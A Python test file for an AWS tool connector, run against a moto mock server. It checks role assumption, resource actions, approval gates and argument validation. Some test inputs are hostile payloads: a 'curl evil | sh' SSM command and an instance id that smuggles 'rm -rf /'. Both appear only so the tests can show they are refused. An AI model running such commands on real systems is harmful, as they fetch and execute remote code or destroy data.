"""The `aws` connector against moto in server mode: real boto3 clients over real HTTP.

Resources are seeded in account 111111111111 through an assumed role. The connector's base
credentials belong to moto's default account, so a tool only sees them when it really signs
with the credentials of the role it assumed. Which roles were assumed (ARN, external id,
session name) is read from moto's STS backend.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from typing import Any

import boto3
import httpx
import pytest
from moto.server import ThreadedMotoServer
from pydantic import ValidationError

from opsgate.errors import ConfigError, Forbidden, ValidationFailed
from opsgate.identity.principal import Principal
from opsgate.tools.catalog import ZONES_FILE, load_zones
from opsgate.tools.connectors.aws import AwsConnector, AwsSettings
from opsgate.tools.connectors.base import CallContext
from opsgate.tools.service import ToolService
from tests.conftest import AppHarness

ZONES = load_zones(ZONES_FILE)
REGION = "eu-west-1"
ACCOUNT = "111111111111"
READ = f"arn:aws:iam::{ACCOUNT}:role/opsgate-read"
COMPUTE = f"arn:aws:iam::{ACCOUNT}:role/opsgate-compute"
PATCH = f"arn:aws:iam::{ACCOUNT}:role/opsgate-patch"
USER = Principal(id="u", kind="user", tenant="default", roles=frozenset({"operator"}))


@pytest.fixture(scope="module")
def moto_url() -> Iterator[str]:
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    url = f"http://127.0.0.1:{server.get_host_and_port()[1]}"
    yield url
    httpx.post(f"{url}/moto-api/config", json={"lambda": {"use_docker": True}})  # moto's default
    server.stop()


@pytest.fixture
def moto(moto_url: str, monkeypatch: pytest.MonkeyPatch) -> str:
    """A clean moto and fake credentials only: no real AWS, no developer profile."""
    for key in ("AWS_PROFILE", "AWS_SESSION_TOKEN", "AWS_ROLE_ARN", "AWS_WEB_IDENTITY_TOKEN_FILE"):
        monkeypatch.delenv(key, raising=False)
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    monkeypatch.setenv("AWS_DEFAULT_REGION", REGION)
    monkeypatch.setenv("AWS_CONFIG_FILE", "/nonexistent")
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", "/nonexistent")
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    httpx.post(f"{moto_url}/moto-api/reset")
    # Lambda without Docker: moto's simple backend echoes the payload.
    httpx.post(f"{moto_url}/moto-api/config", json={"lambda": {"use_docker": False}})
    return moto_url


def _assumed() -> list[tuple[str, str | None, str]]:
    from moto.sts.models import sts_backends

    return [
        (a.role_arn, a.external_id, a.session_name)
        for account in list(sts_backends.keys())
        for a in sts_backends[account]["global"].assumed_roles
    ]


def _seed_session(url: str) -> Any:
    sts = boto3.client("sts", endpoint_url=url, region_name=REGION)
    c = sts.assume_role(RoleArn=f"arn:aws:iam::{ACCOUNT}:role/seed", RoleSessionName="seed")
    c = c["Credentials"]
    return boto3.session.Session(
        aws_access_key_id=c["AccessKeyId"],
        aws_secret_access_key=c["SecretAccessKey"],
        aws_session_token=c["SessionToken"],
        region_name=REGION,
    )


def _settings(url: str, **over: Any) -> AwsSettings:
    base: dict[str, Any] = {
        "enabled": True,
        "region": REGION,
        "endpoint_url": url,
        "external_id": "opsgate-ext-42",
        "roles": {
            "cloud-infrastructure": READ,
            "monitoring": READ,
            "aws.ec2_start_instances": COMPUTE,
            "aws.ec2_stop_instances": COMPUTE,
            "aws.ec2_reboot_instances": COMPUTE,
            "aws.ecs_update_desired_count": COMPUTE,
            "aws.rds_reboot_db_instance": COMPUTE,
            "aws.lambda_invoke": COMPUTE,
            "aws.ssm_send_command": PATCH,
        },
    }
    return AwsSettings.model_validate({**base, **over})


async def _no_secret(ref: str) -> str:
    raise AssertionError(f"no secret expected, asked for {ref}")


def _ctx(resolve: Any = _no_secret) -> CallContext:
    return CallContext(USER, "default", resolve, 10)


def _instances(url: str, n: int = 2) -> list[str]:
    ec2 = _seed_session(url).client("ec2", endpoint_url=url)
    image = ec2.describe_images()["Images"][0]["ImageId"]
    out = ec2.run_instances(ImageId=image, MinCount=n, MaxCount=n, InstanceType="t3.micro")
    return [i["InstanceId"] for i in out["Instances"]]


# --- catalog and settings --------------------------------------------------------------


def test_catalog_declares_every_tool_with_least_gates() -> None:
    c = AwsConnector(AwsSettings(enabled=True), ZONES)
    specs = {t.name: t for t in c.tools()}
    assert len(specs) == 12
    assert all(s.input_schema["additionalProperties"] is False for s in specs.values())
    gates = {n: s.effective_gate for n, s in specs.items()}
    assert gates["aws.ec2_describe_instances"] == "L0"
    assert gates["aws.ec2_start_instances"] == "L1"
    assert gates["aws.lambda_invoke"] == gates["aws.ssm_send_command"] == "L2"
    for s in specs.values():
        if s.inverse:
            assert s.inverse.tool in specs
    ecs = specs["aws.ecs_update_desired_count"]
    assert ecs.supports_dry_run and ecs.inverse is not None
    assert ecs.inverse.arguments["desired_count"] == "prior.desired_count"
    inverses = {n: s.inverse.tool for n, s in specs.items() if s.inverse}
    assert inverses["aws.ec2_stop_instances"] == "aws.ec2_start_instances"
    assert inverses["aws.ec2_start_instances"] == "aws.ec2_stop_instances"
    # disabled: the connector offers nothing
    assert AwsConnector(AwsSettings(), ZONES).tools() == []


def test_settings_are_validated() -> None:
    with pytest.raises(ValidationError):
        AwsSettings.model_validate({"roles": {"*": "arn:aws:iam::1:user/x"}})
    with pytest.raises(ValidationError):
        AwsSettings.model_validate({"region": "mars-1"})
    with pytest.raises(ValidationError):
        AwsSettings.model_validate({"unknown": 1})
    with pytest.raises(ConfigError, match=r"roles\.aws\.nope"):
        AwsConnector(AwsSettings(roles={"aws.nope": READ}), ZONES)


def test_most_specific_role_wins() -> None:
    s = AwsSettings(
        enabled=True,
        roles={"*": "arn:aws:iam::1" + "0" * 11 + ":role/any", "cloud-infrastructure": READ},
    )
    c = AwsConnector(s, ZONES)
    assert c.role_for("aws.ec2_describe_instances") == READ
    assert c.role_for("aws.ssm_send_command").endswith("role/any")  # zone patching -> "*"
    c = AwsConnector(_settings("http://x"), ZONES)
    assert c.role_for("aws.ec2_stop_instances") == COMPUTE
    assert c.role_for("aws.cloudwatch_describe_alarms") == READ


# --- tools against moto ----------------------------------------------------------------


async def test_ec2_tools_assume_their_own_roles(moto: str) -> None:
    ids = _instances(moto)
    c = AwsConnector(_settings(moto), ZONES)
    r = await c.call("aws.ec2_describe_instances", {}, _ctx())
    assert not r.is_error, r.content
    # the seeded instances live in the role's account: seen only with the assumed credentials
    assert sorted(i["id"] for i in r.content["instances"]) == sorted(ids)
    assert r.content["instances"][0]["type"] == "t3.micro"
    r = await c.call("aws.ec2_stop_instances", {"instance_ids": ids}, _ctx())
    assert {x["current"] for x in r.content["instances"]} == {"stopping"}
    assert r.meta["prior"] == {"states": dict.fromkeys(ids, "running")}
    r = await c.call(
        "aws.ec2_describe_instances", {"states": ["stopped"], "instance_ids": ids[:1]}, _ctx()
    )
    assert [i["id"] for i in r.content["instances"]] == ids[:1]
    r = await c.call("aws.ec2_start_instances", {"instance_ids": ids, "region": REGION}, _ctx())
    assert r.meta["prior"] == {"states": dict.fromkeys(ids, "stopped")}
    r = await c.call("aws.ec2_reboot_instances", {"instance_ids": ids}, _ctx())
    assert r.content["rebooting"] == ids
    # one AssumeRole per role (cached), with the external id and session name
    mine = [a for a in _assumed() if not a[0].endswith("/seed")]
    assert mine == [(READ, "opsgate-ext-42", "opsgate"), (COMPUTE, "opsgate-ext-42", "opsgate")]


async def test_session_per_principal_names_the_caller_in_cloudtrail(moto: str) -> None:
    _instances(moto, 1)
    c = AwsConnector(_settings(moto, session_per_principal=True), ZONES)
    alice = Principal(id="alice@corp.example", kind="user", tenant="default", roles=frozenset())
    odd = Principal(id="oidc|" + "x" * 80, kind="user", tenant="default", roles=frozenset())
    for who in (alice, alice, odd):
        r = await c.call("aws.ec2_describe_instances", {}, CallContext(who, "default", _no_secret))
        assert not r.is_error, r.content
    mine = [a[2] for a in _assumed() if not a[0].endswith("/seed")]
    # one AssumeRole per role and caller (cached); names STS accepts, at most 64 characters
    assert mine == ["opsgate-alice@corp.example", ("opsgate-oidc-" + "x" * 80)[:64]]
    assert c.session_name(_ctx()) == "opsgate-u"


async def test_expired_credentials_are_dropped_for_that_caller_only(moto: str) -> None:
    from botocore.exceptions import ClientError

    c = AwsConnector(_settings(moto, session_per_principal=True), ZONES)
    bob = Principal(id="bob", kind="user", tenant="default", roles=frozenset())
    for who in (USER, bob):
        r = await c.call("aws.ec2_describe_instances", {}, CallContext(who, "default", _no_secret))
        assert not r.is_error, r.content
    assert set(c._cache) == {(READ, "opsgate-u"), (READ, "opsgate-bob")}

    async def expired(calls: Any, args: Any) -> Any:
        raise ClientError({"Error": {"Code": "ExpiredToken", "Message": "x"}}, "Describe")

    c._ec2_describe_instances = expired  # type: ignore[method-assign]
    r = await c.call("aws.ec2_describe_instances", {}, _ctx())
    assert r.is_error and r.content["error"] == "ExpiredToken"
    assert set(c._cache) == {(READ, "opsgate-bob")}  # the next call by u assumes again


async def test_unknown_instance_is_an_aws_error_result(moto: str) -> None:
    c = AwsConnector(_settings(moto), ZONES)
    r = await c.call("aws.ec2_stop_instances", {"instance_ids": ["i-0123456789abcdef0"]}, _ctx())
    assert r.is_error and r.content["error"] == "InvalidInstanceID.NotFound"


def _ecs_service(url: str, desired: int = 2) -> None:
    ecs = _seed_session(url).client("ecs", endpoint_url=url)
    ecs.create_cluster(clusterName="prod")
    ecs.register_task_definition(
        family="api",
        containerDefinitions=[{"name": "api", "image": "nginx", "memory": 128}],
    )
    ecs.create_service(
        cluster="prod", serviceName="api", taskDefinition="api", desiredCount=desired
    )


async def test_ecs_dry_run_update_and_prior_state(moto: str) -> None:
    _ecs_service(moto)
    c = AwsConnector(_settings(moto), ZONES)
    args = {"cluster": "prod", "service": "api", "desired_count": 5}
    preview = await c.dry_run("aws.ecs_update_desired_count", args, _ctx())
    assert preview is not None
    assert preview["current"]["desired_count"] == 2 and preview["desired"]["desired_count"] == 5
    assert preview["change"] == 3
    r = await c.call("aws.ecs_update_desired_count", args, _ctx())
    assert not r.is_error, r.content
    assert r.content["prior_desired_count"] == 2 and r.content["desired_count"] == 5
    assert r.meta["prior"] == {"desired_count": 2}
    r = await c.call(
        "aws.ecs_describe_services", {"cluster": "prod", "services": ["api", "gone"]}, _ctx()
    )
    assert r.content["services"][0]["desired"] == 5
    assert r.content["services"][0]["task_definition"].startswith("api:")
    assert len(r.content["failures"]) == 1
    r = await c.call("aws.ecs_update_desired_count", {**args, "service": "gone"}, _ctx())
    assert r.is_error and r.content["error"] == "ServiceNotFound"
    assert await c.dry_run("aws.ec2_stop_instances", {"instance_ids": []}, _ctx()) is None


def _zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("lambda_function.py", "def handler(e, c):\n    return e\n")
    return buf.getvalue()


async def test_lambda_list_invoke_and_payload_cap(moto: str) -> None:
    session = _seed_session(moto)
    iam = session.client("iam", endpoint_url=moto)
    role = iam.create_role(RoleName="fn", AssumeRolePolicyDocument="{}")["Role"]["Arn"]
    session.client("lambda", endpoint_url=moto).create_function(
        FunctionName="rotate-logs",
        Runtime="python3.12",
        Role=role,
        Handler="lambda_function.handler",
        Code={"ZipFile": _zip()},
    )
    c = AwsConnector(_settings(moto, lambda_payload_max_bytes=64), ZONES)
    r = await c.call("aws.lambda_list_functions", {}, _ctx())
    assert [f["name"] for f in r.content["functions"]] == ["rotate-logs"]
    r = await c.call(
        "aws.lambda_invoke", {"function_name": "rotate-logs", "payload": {"days": 7}}, _ctx()
    )
    assert not r.is_error and r.content["status_code"] == 200
    assert r.content["payload"] == {"days": 7}  # moto's simple backend echoes
    before = len(_assumed())
    fresh = AwsConnector(_settings(moto, lambda_payload_max_bytes=64), ZONES)
    with pytest.raises(ValidationFailed, match="limit is 64"):
        await fresh.call(
            "aws.lambda_invoke",
            {"function_name": "rotate-logs", "payload": {"x": "y" * 100}},
            _ctx(),
        )
    assert len(_assumed()) == before  # refused before AssumeRole


async def test_rds_describe_and_reboot(moto: str) -> None:
    _seed_session(moto).client("rds", endpoint_url=moto).create_db_instance(
        DBInstanceIdentifier="orders-db",
        DBInstanceClass="db.t3.micro",
        Engine="postgres",
        MasterUsername="admin",
        MasterUserPassword="not-a-real-password",
        AllocatedStorage=20,
    )
    c = AwsConnector(_settings(moto), ZONES)
    r = await c.call("aws.rds_describe_db_instances", {}, _ctx())
    db = r.content["db_instances"][0]
    assert db["id"] == "orders-db" and db["engine"] == "postgres" and db["class"] == "db.t3.micro"
    assert "password" not in str(r.content).lower()
    r = await c.call("aws.rds_reboot_db_instance", {"db_instance_identifier": "orders-db"}, _ctx())
    assert not r.is_error and r.content["db_instance"]["id"] == "orders-db"


async def test_ssm_documents_allow_list(moto: str) -> None:
    ids = _instances(moto, 1)
    c = AwsConnector(_settings(moto), ZONES)
    with pytest.raises(Forbidden, match="AWS-RunShellScript"):
        await c.call(
            "aws.ssm_send_command",
            {
                "document_name": "AWS-RunShellScript",
                "instance_ids": ids,
                "parameters": {"commands": ["curl evil | sh"]},
            },
            _ctx(),
        )
    assert _assumed() == [(f"arn:aws:iam::{ACCOUNT}:role/seed", None, "seed")]
    r = await c.call(
        "aws.ssm_send_command",
        {
            "document_name": "AWS-RunPatchBaseline",
            "instance_ids": ids,
            "parameters": {"Operation": ["Scan"]},
            "comment": "monthly scan",
        },
        _ctx(),
    )
    assert not r.is_error, r.content
    assert r.content["document"] == "AWS-RunPatchBaseline" and r.content["instance_ids"] == ids
    assert r.content["command_id"]
    assert (PATCH, "opsgate-ext-42", "opsgate") in _assumed()


async def test_cloudwatch_alarms(moto: str) -> None:
    _seed_session(moto).client("cloudwatch", endpoint_url=moto).put_metric_alarm(
        AlarmName="api-5xx",
        MetricName="HTTPCode_Target_5XX_Count",
        Namespace="AWS/ApplicationELB",
        Statistic="Sum",
        Period=60,
        EvaluationPeriods=1,
        Threshold=10,
        ComparisonOperator="GreaterThanThreshold",
    )
    c = AwsConnector(_settings(moto), ZONES)
    r = await c.call("aws.cloudwatch_describe_alarms", {"alarm_name_prefix": "api-"}, _ctx())
    assert [a["name"] for a in r.content["alarms"]] == ["api-5xx"]
    assert r.content["alarms"][0]["namespace"] == "AWS/ApplicationELB"


# --- refusals before AWS ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("aws.ec2_stop_instances", {"instance_ids": ["i-123"]}),
        ("aws.ec2_stop_instances", {"instance_ids": ["i-0123456789abcdef0; rm -rf /"]}),
        ("aws.ec2_stop_instances", {"instance_ids": []}),
        ("aws.ec2_describe_instances", {"region": "eu-west-1; x"}),
        ("aws.ec2_describe_instances", {"filters": [{"Name": "x"}]}),
        ("aws.ecs_update_desired_count", {"cluster": "a/b", "service": "s", "desired_count": 1}),
        ("aws.ecs_update_desired_count", {"cluster": "c", "service": "s", "desired_count": -1}),
        ("aws.lambda_invoke", {"function_name": "arn:aws:lambda:eu-west-1:1:function:f"}),
        ("aws.rds_reboot_db_instance", {"db_instance_identifier": "1db"}),
        ("aws.ssm_send_command", {"document_name": "AWS-RunPatchBaseline", "instance_ids": ["x"]}),
    ],
)
async def test_invalid_arguments_refused_before_any_aws_call(
    moto: str, tool: str, args: dict[str, Any]
) -> None:
    c = AwsConnector(_settings(moto), ZONES)
    with pytest.raises(ValidationFailed):
        await c.call(tool, args, _ctx())
    assert _assumed() == []


async def test_region_outside_the_allow_list_is_refused(moto: str) -> None:
    c = AwsConnector(_settings(moto, regions=["eu-central-1"]), ZONES)
    with pytest.raises(Forbidden, match="us-east-2"):
        await c.call("aws.ec2_describe_instances", {"region": "us-east-2"}, _ctx())
    r = await c.call("aws.ec2_describe_instances", {"region": "eu-central-1"}, _ctx())
    assert r.content == {"region": "eu-central-1", "count": 0, "instances": [], "more": False}


async def test_tool_without_a_role_is_refused_never_base_credentials(moto: str) -> None:
    c = AwsConnector(_settings(moto, roles={"aws.ec2_describe_instances": READ}), ZONES)
    with pytest.raises(Forbidden, match=r"no AWS role configured for aws\.ec2_stop_instances"):
        await c.call("aws.ec2_stop_instances", {"instance_ids": ["i-0123456789abcdef0"]}, _ctx())
    assert _assumed() == []
    status = await c.status()
    assert status.state == "ready" and "aws.ec2_stop_instances" in status.reason


async def test_credentials_cached_until_shortly_before_expiry(moto: str) -> None:
    now = [1_000_000.0]
    c = AwsConnector(_settings(moto), ZONES, clock=lambda: now[0])
    import time

    now[0] = time.time()
    for _ in range(3):
        await c.call("aws.cloudwatch_describe_alarms", {}, _ctx())
    await c.call("aws.ec2_describe_instances", {}, _ctx())  # same role: same credentials
    assert [a[0] for a in _assumed()] == [READ]
    now[0] += 900 - 300 - 5  # still outside the refresh margin
    await c.call("aws.cloudwatch_describe_alarms", {}, _ctx())
    assert len(_assumed()) == 1
    now[0] += 10  # inside the last 300 s: renewed
    await c.call("aws.cloudwatch_describe_alarms", {}, _ctx())
    assert [a[0] for a in _assumed()] == [READ, READ]


async def test_base_credentials_from_the_vault(moto: str) -> None:
    asked: list[str] = []

    async def resolve(ref: str) -> str:
        asked.append(ref)
        return "AKIAEXAMPLEBASE00001:base-secret"

    c = AwsConnector(_settings(moto, credentials="secret://aws-base"), ZONES)
    r = await c.call("aws.ec2_describe_instances", {}, _ctx(resolve))
    assert not r.is_error and asked == ["secret://aws-base"]
    await c.call("aws.ec2_describe_instances", {}, _ctx(resolve))
    assert asked == ["secret://aws-base"]  # resolved only when a role is assumed

    async def bad(ref: str) -> str:
        return "no-separator"

    c = AwsConnector(_settings(moto, credentials="secret://aws-base"), ZONES)
    with pytest.raises(ValidationFailed, match="ACCESS_KEY_ID:SECRET"):
        await c.call("aws.ec2_describe_instances", {}, _ctx(bad))


# --- status ------------------------------------------------------------------------------


async def test_status_reasons(moto: str, monkeypatch: pytest.MonkeyPatch) -> None:
    assert (await AwsConnector(AwsSettings(), ZONES).status()).state == "disabled"
    s = await AwsConnector(AwsSettings(enabled=True), ZONES).status()
    assert s.state == "failed" and "no roles" in s.reason
    assert (await AwsConnector(_settings(moto), ZONES).status()).state == "ready"
    # AssumeRole failing (here: nothing listens) is reported with the role
    dead = AwsConnector(_settings("http://127.0.0.1:9", connect_timeout_seconds=1), ZONES)
    r = await dead.call("aws.ec2_describe_instances", {}, _ctx())
    assert r.is_error and r.content["error"] == "assume_role_failed" and r.content["role"] == READ
    s = await dead.status()
    assert s.state == "failed" and READ in s.reason and "AssumeRole" in s.reason
    # no base credentials anywhere in the default chain
    monkeypatch.delenv("AWS_ACCESS_KEY_ID")
    monkeypatch.delenv("AWS_SECRET_ACCESS_KEY")
    s = await AwsConnector(_settings(moto), ZONES).status()
    assert s.state == "failed" and "no base credentials" in s.reason


# --- through the governed pipeline -------------------------------------------------------


async def test_through_the_tool_service(harness: AppHarness, moto: str) -> None:
    rt = harness.runtime
    ids = _instances(moto, 1)
    _ecs_service(moto, desired=1)
    aws = AwsConnector(_settings(moto), rt.tools.zones)
    svc = ToolService(
        rt.settings.tools,
        rt.tools.zones,
        [aws],
        policy=rt.policy,
        guard=rt.guard,
        approvals=rt.approvals,
        audit=rt.audit,
        bus=rt.bus,
        vault=rt.vault,
    )
    agent = Principal(id="bot", kind="agent", tenant="default", roles=frozenset({"agent"}))
    out = await svc.call(agent, "aws.ec2_describe_instances", {})
    assert out.status == "executed" and out.gate == "L0"
    assert [i["id"] for i in out.result["instances"]] == ids
    # L1 write: executes; the prior count lands in the audit record
    out = await svc.call(
        agent,
        "aws.ecs_update_desired_count",
        {"cluster": "prod", "service": "api", "desired_count": 3},
    )
    assert out.status == "executed" and out.gate == "L1"
    # L2: nothing runs until approved
    before = len(_assumed())
    out = await svc.call(
        agent,
        "aws.ssm_send_command",
        {"document_name": "AWS-RunPatchBaseline", "instance_ids": ids},
        rationale="patch window",
    )
    assert out.status == "pending_approval" and out.approval_id
    assert len(_assumed()) == before
    # the schema is enforced by the pipeline too
    with pytest.raises(ValidationFailed):
        await svc.call(agent, "aws.ec2_stop_instances", {"instance_ids": ["i-bad"]})
    await rt.audit.flush()
    audit = (
        await harness.client.get(
            "/api/v1/audit", params={"action_prefix": "tool.call"}, headers=harness.auth()
        )
    ).json()["items"]
    done = [e for e in audit if e["action"] == "tool.call" and "ecs" in e["resource"]]
    assert done and done[0]["payload"]["prior"] == {"desired_count": 1}
